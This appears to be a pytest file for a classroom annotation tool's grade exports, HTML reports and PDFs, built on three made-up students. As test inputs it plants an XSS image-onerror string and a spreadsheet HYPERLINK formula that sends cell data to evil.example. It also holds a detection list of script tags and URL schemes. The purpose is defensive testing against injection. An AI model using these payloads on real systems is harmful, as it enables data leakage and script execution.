"""Reports: the gradebook and Canvas CSVs, the printable HTML reports and their PDF, on the built-in
lesson and its answer key, with three made-up students."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
import subprocess
from collections import Counter
from html.parser import HTMLParser

import pytest

from annotator.core.annotations.annotation import Annotation, annotation_in
from annotator.core.classroom.grading import grade_class, grade_student
from annotator.core.classroom.results import StudentResult, auto_score, final_score
from annotator.core.formats.class_report import class_report_html
from annotator.core.formats.gradebook import (
    CANVAS_COLUMNS,
    canvas_csv,
    gradebook_columns,
    gradebook_csv,
)
from annotator.core.formats.student_report import student_report_html
from annotator.core.lessons.lesson import Lesson
from annotator.core.lessons.tags import Tag, TagSet, UnderlineStyle

XSS = "<img src=x onerror=alert(1)>"


def _note(lesson: Lesson, article_id: str, start: int, end: int, tag: str, who: str, note=""):
    return annotation_in(lesson, article_id, start, end, tag, student=who, note=note)


def _k(lesson: Lesson, words: str, article_id: str | None = None) -> int:
    """The index of the key span starting with ``words`` (on ``article_id``, if given)."""
    return next(
        index
        for index, span in enumerate(lesson.key)
        if span.quote.exact.startswith(words) and article_id in (None, span.article_id)
    )


def _on_key(lesson: Lesson, words: str, who: str, *, tag=None, shift=(0, 0), note="", at=None):
    """An annotation on the key span starting with ``words``, its edges moved by ``shift``, its
    tag maybe changed."""
    span = lesson.key[_k(lesson, words, at)]
    start, end = span.position.start + shift[0], span.position.end + shift[1]
    return _note(lesson, span.article_id, start, end, tag or span.tag, who, note)


def _find(lesson: Lesson, article_id: str, phrase: str) -> tuple[int, int]:
    start = lesson.article(article_id).text.text.index(phrase)
    return start, start + len(phrase)


@pytest.fixture(scope="module")
def classroom() -> dict:
    return made_up_class()


def made_up_class() -> dict:
    """Three students' work on the built-in lesson, graded, with the teacher's judgement."""
    from annotator.core.lessons.builtin import builtin_lesson_path
    from annotator.core.lessons.pack import load_pack

    lesson = load_pack(builtin_lesson_path())
    ada, grace, zora = "Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"

    quote = "“The agency’s federal law enforcement officers"
    ada_work = [
        _on_key(lesson, "immigration crackdown", ada, note="ADA-NOTE crackdown is loaded"),
        _on_key(lesson, "the arrests of more than", ada, shift=(0, -9)),  # shorter, still found
        _on_key(lesson, "historic mass", ada),
        _on_key(lesson, "some have already", ada, shift=(4, 6)),  # shifted both ways, still found
        _on_key(lesson, "roundups", ada, tag="FACT", note=XSS),  # right span, wrong tag
        _on_key(lesson, quote, ada, at="nbc-news"),  # the long quote
        _on_key(lesson, '"I will send troops', ada),  # a quote ...
        _on_key(lesson, "disastrous invasion", ada, note="ADA-NOTE invasion"),  # ... framing in it
        _note(lesson, "daily-kos", *_find(lesson, "daily-kos", "Daily Kos"), "FACT", ada),
    ]
    # Two highlights that cross (neither holds the other): a FACT and a FRAMING.
    fact = _find(lesson, "independent", "Donald Trump returns to the White House")
    framing = _find(lesson, "independent", "returns to the White House and works to fulfill")
    ada_work.append(_note(lesson, "independent", *fact, "FACT", ada))
    ada_work.append(_note(lesson, "independent", *framing, "FRAMING", ada))

    grace_work = [
        _on_key(lesson, "immigration crackdown", grace),
        _on_key(lesson, "deportation crackdown", grace, note="GRACE-NOTE crackdown again"),
        _on_key(lesson, "Agents from Immigration", grace),
        _on_key(lesson, "illegal migrants", grace, tag="QUOTE"),
        # far too short: near its claim, which is missed
        _on_key(lesson, quote, grace, shift=(0, -150), at="independent"),
    ]
    lost = _on_key(lesson, "stark contrast", grace)
    grace_work.append(Annotation(**{**_asdict(lost), "orphaned": True}))

    zora_work = [
        _on_key(lesson, "immigration crackdown", zora, tag="FACT"),
        _on_key(lesson, "releasing detainees", zora, note="ZORA-NOTE releasing"),
        _on_key(lesson, "the facilities housed", zora),
        _on_key(lesson, "the facilities housed", zora, shift=(1, 0)),  # the same claim twice
    ]

    work = {ada: ada_work, grace: grace_work, zora: zora_work}
    grades = grade_class(work, lesson)
    results = {
        ada: StudentResult(
            ada,
            "S-001",
            ada_work,
            grades[ada],
            feedback="ADA-FEEDBACK Great eye for framing.\nLook again at the Independent.",
            annotation_feedback={
                ada_work[4].id: "ADA-COMMENT it is a framing word",
                grace_work[1].id: "GRACE-COMMENT must not leak",  # not Ada's: never shown
            },
        ),
        grace: StudentResult(
            grace,
            "",
            grace_work,
            grades[grace],
            override=85,
            feedback="GRACE-FEEDBACK Good start.",
            annotation_feedback={grace_work[1].id: "GRACE-COMMENT right"},
        ),
        zora: StudentResult(
            zora,
            "S-003",
            zora_work,
            grades[zora],
            feedback='=HYPERLINK("http://evil.example/?"&A1,"x") ZORA-FEEDBACK',
        ),
    }
    # Listed out of name order on purpose: every report sorts by name.
    return {"lesson": lesson, "results": [results[zora], results[ada], results[grace]], **results}


def _asdict(annotation: Annotation) -> dict:
    return {name: getattr(annotation, name) for name in Annotation.__slots__}


def _other_students_markers(name: str) -> list[str]:
    markers = {
        "Ada Lovelace": ["Ada Lovelace", "ADA-"],
        "Grace Hopper": ["Grace Hopper", "GRACE-"],
        "Zora Neale Hurston": ["Zora Neale Hurston", "ZORA-"],
    }
    return [m for student, found in markers.items() if student != name for m in found]


# -- the grading the fixtures rely on -----------------------------------------------------------


def test_the_made_up_class_grades_as_designed(classroom) -> None:
    lesson = classroom["lesson"]

    def keys(*words: str) -> list[int]:
        return sorted(_k(lesson, w) for w in words)

    quote = "“The agency’s federal law enforcement officers"
    ada = classroom["Ada Lovelace"].grade
    assert [m.key_index for m in ada.matches] == keys(
        "immigration crackdown",
        "the arrests of more than",
        "historic mass",
        "some have already",
        quote,
        '"I will send troops',
        "disastrous invasion",
    )
    assert [k for _, k, _ in ada.wrong_tag] == keys("roundups")
    assert len(ada.extras) == 3
    grace = classroom["Grace Hopper"].grade
    assert [m.key_index for m in grace.matches] == keys(
        "immigration crackdown", "deportation crackdown", "Agents from Immigration"
    )
    assert [k for _, k, _ in grace.wrong_tag] == keys("illegal migrants")
    assert _k(lesson, quote, "independent") in grace.misses
    assert len(grace.extras) == 1 and len(grace.orphaned) == 1
    zora = classroom["Zora Neale Hurston"].grade
    assert [m.key_index for m in zora.matches] == keys(
        "releasing detainees", "the facilities housed"
    )
    assert len(zora.extras) == 1
    assert [v.outcome for v in zora.verdicts] == ["wrong_tag", "credited", "credited", "near"]


# -- scores ----------------------------------------------------------------------------------------


def test_final_score_is_the_override_or_the_points_earned_out_of_the_target(classroom) -> None:
    # Before the grading rule of docs/grading.md this was 100 x F1; the F1 column stays in the
    # gradebook, but the score is the credited points out of the key's target.
    ada, grace = classroom["Ada Lovelace"], classroom["Grace Hopper"]
    earned = ada.grade.points_earned
    assert final_score(ada) == auto_score(ada.grade) == round(100 * earned / ada.grade.target, 1)
    assert final_score(grace) == 85.0
    assert auto_score(grace.grade) == round(100 * grace.grade.points_earned / grace.grade.target, 1)


# -- the gradebook CSV -----------------------------------------------------------------------------


def test_gradebook_csv_has_a_column_per_tag_and_the_right_numbers(classroom) -> None:
    lesson = classroom["lesson"]
    text = gradebook_csv(lesson, classroom["results"])
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert reader.fieldnames == gradebook_columns(lesson)
    assert reader.fieldnames[2:5] == ["FACT count", "QUOTE count", "FRAMING count"]
    assert [r["Student"] for r in rows] == ["Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"]

    for row in rows:
        result = classroom[row["Student"]]
        counts = Counter(a.tag for a in result.annotations if not a.orphaned)
        for tag in lesson.tags.names:
            assert row[f"{tag} count"] == str(counts[tag])
        overall = result.grade.overall
        assert row["Precision (%)"] == f"{100 * overall.precision:.1f}"
        assert row["Recall (%)"] == f"{100 * overall.recall:.1f}"
        assert row["F1 (%)"] == f"{100 * overall.f1:.1f}"
        assert float(row["Score (auto)"]) == auto_score(result.grade)
        assert float(row["Final grade"]) == final_score(result)

    ada, grace, zora = rows
    assert ada["Student ID"] == "S-001" and ada["Override"] == ""
    assert grace["Student ID"] == "" and grace["Override"] == "85.0"
    assert grace["Final grade"] == "85.0"
    assert ada["Feedback"].startswith("ADA-FEEDBACK") and "\n" in ada["Feedback"]
    assert zora["Feedback"].startswith("'=HYPERLINK")  # guarded against formula injection


# -- Canvas ----------------------------------------------------------------------------------------


def test_canvas_csv_has_the_import_header_and_points_possible_row(classroom) -> None:
    text = canvas_csv(
        classroom["lesson"], classroom["results"], assignment="News claims", points_possible=20
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "News claims"]
    assert tuple(rows[0][:5]) == CANVAS_COLUMNS
    assert rows[1] == ["Points Possible", "", "", "", "", "20"]
    by_name = {row[0]: row for row in rows[2:]}
    assert list(by_name) == ["Ada Lovelace", "Grace Hopper", "Zora Neale Hurston"]
    assert by_name["Grace Hopper"] == ["Grace Hopper", "", "", "", "", "17"]  # 85 % of 20
    ada = classroom["Ada Lovelace"]
    assert by_name["Ada Lovelace"][2] == "S-001"
    assert float(by_name["Ada Lovelace"][5]) == round(final_score(ada) * 20 / 100, 2)
    assert all(len(row) == 6 for row in rows)


def test_canvas_csv_refuses_a_nameless_assignment(classroom) -> None:
    with pytest.raises(ValueError, match="name"):
        canvas_csv(classroom["lesson"], classroom["results"], assignment=" ")


# -- what every report must be (the student's report: tests/test_student_report.py) -------------


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.style += data


def assert_self_contained(page: str) -> None:
    """No scripts, no resources, no links: in tags, in attributes and in CSS."""
    collector = _TagCollector()
    collector.feed(page)
    names = {tag for tag, _ in collector.tags}
    assert not names & {"script", "img", "a", "link", "iframe", "object", "embed", "form"}
    for _tag, attrs in collector.tags:
        for attribute, value in attrs:
            assert attribute in {
                "class",
                "style",
                "lang",
                "charset",
                "cellspacing",
                "cellpadding",
                "width",
                "role",  # a chart's role="img" and its text alternative, for screen readers
                "aria-label",
            }
            assert not re.search(r"url\s*\(|(https?|file|data|javascript):", value or "", re.I)
    assert not re.search(r"url\s*\(|@import|(https?|file|data):", collector.style, re.I)


def _with_tags(lesson: Lesson, tags: TagSet) -> Lesson:
    return dataclasses.replace(lesson, tags=tags)


def _escaped(text: str) -> str:
    import html

    return html.escape(text, quote=True)


# -- the class report ------------------------------------------------------------------------------


def test_class_report_lists_every_student_and_every_key_span(classroom) -> None:
    lesson = classroom["lesson"]
    page = class_report_html(lesson, classroom["results"])
    positions = [page.index(name) for name in ("Ada Lovelace", "Grace Hopper", "Zora Neale")]
    assert positions == sorted(positions)
    assert "ADA-NOTE" not in page and "FEEDBACK" not in page  # no notes, no feedback
    difficulty = page[page.index("Which claims the class found") :]
    # A table per article: a header row each, and a row per key span.
    assert difficulty.count("<tr>") == len(lesson.articles) + len(lesson.key)
    # Key span 1 (the headline's "immigration crackdown"): Ada and Grace found it, Zora mistagged.
    first = re.search(r"<tr><td class=\"num\">1</td>(.*?)</tr>", difficulty)[1]
    assert "immigration crackdown" in first
    assert re.findall(r'<td class="num">([^<]*)</td>', first) == ["1", "2 (67%)", "1", "0"]
    assert_self_contained(page)


# -- PDF -------------------------------------------------------------------------------------------


def test_write_pdf_renders_a_student_report(classroom, qapp, tmp_path) -> None:
    from annotator.qt.pdf_report import write_pdf

    path = tmp_path / "ada.pdf"
    pages = write_pdf(student_report_html(classroom["lesson"], classroom["Ada Lovelace"]), path)
    data = path.read_bytes()
    assert data.startswith(b"%PDF") and b"%%EOF" in data[-1024:]
    assert pages >= 1
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed: the text of the PDF is not checked")
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert text.count("\f") == pages  # one form feed per page
    assert "Ada Lovelace" in text and f"page {pages} of {pages}" in text
    assert "immigration crackdown" in text and "FRAMING" in text
    assert "Grace Hopper" not in text


def test_write_pdf_prints_on_letter_and_reports_an_unwritable_path(classroom, qapp, tmp_path):
    from PySide6.QtGui import QPageSize

    from annotator.qt.pdf_report import write_pdf

    page = class_report_html(classroom["lesson"], classroom["results"])
    path = tmp_path / "class.pdf"
    assert write_pdf(page, path, page_size=QPageSize.PageSizeId.Letter) >= 1
    box = re.search(rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", path.read_bytes())
    assert (float(box[1]), float(box[2])) == (612, 792)  # 8.5 x 11 in
    with pytest.raises(OSError):
        write_pdf(page, tmp_path / "missing" / "class.pdf")


# -- the PDF draws each tag as the article view does -------------------------------------------

# What the article view draws for each underline style: the line the legend names.
ARTICLE_VIEW_LINES = {
    UnderlineStyle.SOLID: "SingleUnderline",
    UnderlineStyle.DOTTED: "DotLine",
    UnderlineStyle.WAVE: "WaveUnderline",
    UnderlineStyle.DOUBLE: "DashDotDotLine",
    UnderlineStyle.DASHED: "DashUnderline",
    UnderlineStyle.DASH_DOT: "DashDotLine",
}


def _char_formats(document, text: str) -> list:
    """The character format inside each occurrence of ``text`` in a QTextDocument."""
    from PySide6.QtGui import QTextCursor

    formats = []
    cursor = document.find(text)
    while not cursor.isNull():
        probe = QTextCursor(document)
        probe.setPosition(cursor.selectionStart() + 1)
        formats.append(probe.charFormat())
        cursor = document.find(text, cursor)
    return formats


def test_the_pdf_underlines_each_tag_as_the_article_view_does(classroom, qtbot) -> None:
    from PySide6.QtGui import QTextCharFormat

    from annotator.qt.article_view import ArticleView
    from annotator.qt.pdf_report import report_document

    base = classroom["lesson"]
    styles = list(ARTICLE_VIEW_LINES)
    colours = ["#f4a3c8", "#a3d4f4", "#b8f4a3", "#f4e3a3", "#d0a3f4", "#a3f4e8"]
    tags = TagSet(
        tuple(
            Tag(f"T{n}", f"Sample {style.value}", colour, style, f"lines of {style.value}")
            for n, (style, colour) in enumerate(zip(styles, colours, strict=True), start=1)
        )
    )
    lesson = _with_tags(base, tags)
    article = lesson.articles[0]
    blocks = [block for block in article.text.blocks if block.end - block.start > 30][:6]
    work = [
        _note(lesson, article.id, block.start, block.start + 24, tag.name, "Ada")
        for block, tag in zip(blocks, tags, strict=True)
    ]
    result = StudentResult("Ada", "", work, grade_student(work, lesson, student="Ada"))
    document = report_document(student_report_html(lesson, result))

    view = ArticleView(article, tags)
    qtbot.addWidget(view)
    view.set_annotations(work)
    for annotation, tag in zip(work, tags, strict=True):
        expected = getattr(QTextCharFormat.UnderlineStyle, ARTICLE_VIEW_LINES[tag.underline])
        assert view.highlight_format_at(annotation.start + 2).underlineStyle() == expected
        # The highlight in the article's text, and the sample in the legend.
        for text in (annotation.quote.exact, tag.label):
            drawn = [
                f.underlineStyle()
                for f in _char_formats(document, text)
                if f.background().color().name() == tag.colour
            ]
            assert drawn and set(drawn) == {expected}, (tag.underline, text, drawn)
